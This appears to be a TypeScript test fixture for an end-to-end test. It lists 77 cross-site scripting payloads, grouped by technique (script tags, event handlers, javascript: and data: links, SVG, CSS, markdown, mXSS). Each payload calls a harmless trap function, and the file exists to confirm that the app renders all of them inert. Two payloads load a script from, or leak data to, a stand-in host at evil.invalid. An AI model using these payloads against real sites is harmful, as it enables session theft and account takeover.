// The XSS corpus: texts a hostile user (or a pasted rulebook) could save, each of which
// calls the page-level trap `__xss(n)` (or `alert`) if it ever runs. Grouped by the trick it tries.
// Saved through the API into every text a user writes and rendered on every view that shows them by
// e2e/tests/xss.spec.ts. No NUL or lone surrogate: the contract refuses those before they are stored.

export interface Payload {
  id: number;
  kind:
    | 'script'
    | 'handler'
    | 'javascript-link'
    | 'data-link'
    | 'svg'
    | 'css'
    | 'markdown'
    | 'entity'
    | 'mxss'
    | 'other';
  text: string;
}

const raw: [Payload['kind'], string][] = [
  // Script tags
  ['script', '<script>__xss(1)</script>'],
  ['script', '<SCRIPT SRC=data:text/javascript,__xss(2)></SCRIPT>'],
  ['script', '<script src=//evil.invalid/x.js></script>'],
  ['script', '</textarea><script>__xss(4)</script>'],
  ['script', '</title><script>__xss(5)</script>'],
  ['script', '"><script>__xss(6)</script>'],
  ['script', "'><script>__xss(7)</script>"],
  ['script', '<scr<script>ipt>__xss(8)</script>'],
  // Event handlers
  ['handler', '<img src=x onerror=__xss(9)>'],
  ['handler', '<img src="x" onerror="__xss(10)">'],
  ['handler', '<svg onload=__xss(11)>'],
  ['handler', '<body onload=__xss(12)>'],
  ['handler', '<details open ontoggle=__xss(13)>'],
  ['handler', '<input autofocus onfocus=__xss(14)>'],
  ['handler', '<video><source onerror=__xss(15)></video>'],
  ['handler', '<audio src=x onerror=__xss(16)>'],
  ['handler', '<div onmouseover="__xss(17)">hover</div>'],
  ['handler', '" onmouseover="__xss(18)" x="'],
  ['handler', "' autofocus onfocus='__xss(19)"],
  ['handler', '<iframe srcdoc="<script>parent.__xss(20)</script>">'],
  ['handler', '<img src=x:alert(21) onerror=eval(src)>'],
  // javascript: links
  ['javascript-link', '[click](javascript:__xss(22))'],
  ['javascript-link', '[click](JaVaScRiPt:__xss(23))'],
  ['javascript-link', '[click](javascript&#58;__xss(24))'],
  ['javascript-link', '[click](&#106;avascript:__xss(25))'],
  ['javascript-link', '[click](  javascript:__xss(26))'],
  ['javascript-link', '[click](javascript://%0a__xss(27))'],
  ['javascript-link', '<a href="javascript:__xss(28)">a</a>'],
  ['javascript-link', 'javascript:__xss(29)'],
  ['javascript-link', '[click][r30]\n\n[r30]: javascript:__xss(30)'],
  ['javascript-link', '[click](vbscript:__xss(31))'],
  ['javascript-link', '[a](<javascript:__xss(32)>)'],
  ['javascript-link', '<javascript:__xss(33)>'],
  ['javascript-link', '[click](\tjavascript:__xss(34))'],
  ['javascript-link', '[click](java&#x09;script:__xss(35))'],
  // data: links
  ['data-link', '[click](data:text/html;base64,PHNjcmlwdD5wYXJlbnQuX194c3MoMzYpPC9zY3JpcHQ+)'],
  ['data-link', '[click](data:text/html,%3Cscript%3Eparent.__xss(37)%3C/script%3E)'],
  ['data-link', '<a href="data:text/html,<script>parent.__xss(38)</script>">x</a>'],
  [
    'data-link',
    '![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9InBhcmVudC5fX3hzcygzOSkiIHhtbG5zPSJodHRwOi8vd3d3LnczLm9yZy8yMDAwL3N2ZyIvPg==)',
  ],
  // SVG
  ['svg', '<svg><script>__xss(40)</script></svg>'],
  ['svg', '<svg><animate onbegin=__xss(41) attributeName=x dur=1s>'],
  ['svg', '<svg><a xlink:href="javascript:__xss(42)"><text x=20 y=20>X</text></a></svg>'],
  ['svg', '<svg><set attributeName=href to=javascript:__xss(43)>'],
  ['svg', '<svg><foreignObject><img src=x onerror=__xss(44)></foreignObject></svg>'],
  // CSS
  ['css', "<style>@import 'javascript:__xss(45)';</style>"],
  ['css', '<div style="background:url(javascript:__xss(46))">x</div>'],
  ['css', '<style>*{background:url("//evil.invalid/?leak")}</style>'],
  ['css', '<div style="x:expression(__xss(48))">x</div>'],
  ['css', '<link rel=stylesheet href="javascript:__xss(49)">'],
  // Markdown link and image tricks
  ['markdown', '![x](x" onerror="__xss(50))'],
  ['markdown', '![x](https://x.invalid/a.png "t\\" onerror=\\"__xss(51)")'],
  ['markdown', '[a](https://x.invalid/"onmouseover="__xss(52))'],
  ['markdown', '[<img src=x onerror=__xss(53)>](https://x.invalid)'],
  ['markdown', '![<img src=x onerror=__xss(54)>](x.png)'],
  ['markdown', '<https://x.invalid/" onmouseover="__xss(55)>'],
  ['markdown', '`<img src=x onerror=__xss(56)>`'],
  ['markdown', '```html\n<script>__xss(57)</script>\n```'],
  ['markdown', '[x](https://x.invalid "<img src=x onerror=__xss(58)>")'],
  ['markdown', '| a |\n|---|\n| <img src=x onerror=__xss(59)> |'],
  // HTML entities and encodings
  ['entity', '&lt;img src=x onerror=__xss(60)&gt;'],
  ['entity', '&#60;script&#62;__xss(61)&#60;/script&#62;'],
  ['entity', '\\u003cimg src=x onerror=__xss(62)\\u003e'],
  ['entity', '%3Cscript%3E__xss(63)%3C/script%3E'],
  ['entity', '&#x3C;img src=x onerror=__xss(64)&#x3E;'],
  // mXSS: markup that changes meaning when the browser re-parses it
  ['mxss', '<noscript><p title="</noscript><img src=x onerror=__xss(65)>">'],
  ['mxss', '<svg></p><style><a id="</style><img src=1 onerror=__xss(66)>">'],
  ['mxss', '<math><mtext><table><mglyph><style><img src=x onerror=__xss(67)>'],
  ['mxss', '<form><math><mtext></form><form><mglyph><style></math><img src onerror=__xss(68)>'],
  ['mxss', '<!--<img src="--><img src=x onerror=__xss(69)//">'],
  ['mxss', '<template><img src=x onerror=__xss(70)></template>'],
  // Other sinks
  ['other', "{{constructor.constructor('__xss(71)')()}}"],
  ['other', '${__xss(72)}'],
  ['other', '<object data="javascript:__xss(73)">'],
  ['other', '<embed src="javascript:__xss(74)">'],
  ['other', '<base href="javascript:__xss(75)//">'],
  ['other', '<meta http-equiv="refresh" content="0;url=javascript:__xss(76)">'],
  ['other', '<a href="#" onclick="__xss(77)">click</a>'],
];

export const XSS_PAYLOADS: Payload[] = raw.map(([kind, text], index) => ({ id: index + 1, kind, text }));

/** A name of at most 50 characters (the contract's limit), unique by its number. */
export function payloadName(payload: Payload): string {
  return `${payload.id} ${payload.text}`.slice(0, 50).trim();
}

/** Every payload in one markdown text, each in its own paragraph, between two visible markers. */
export function payloadDocument(start: string, end: string): string {
  return [start, ...XSS_PAYLOADS.map((payload) => payload.text), end].join('\n\n');
}
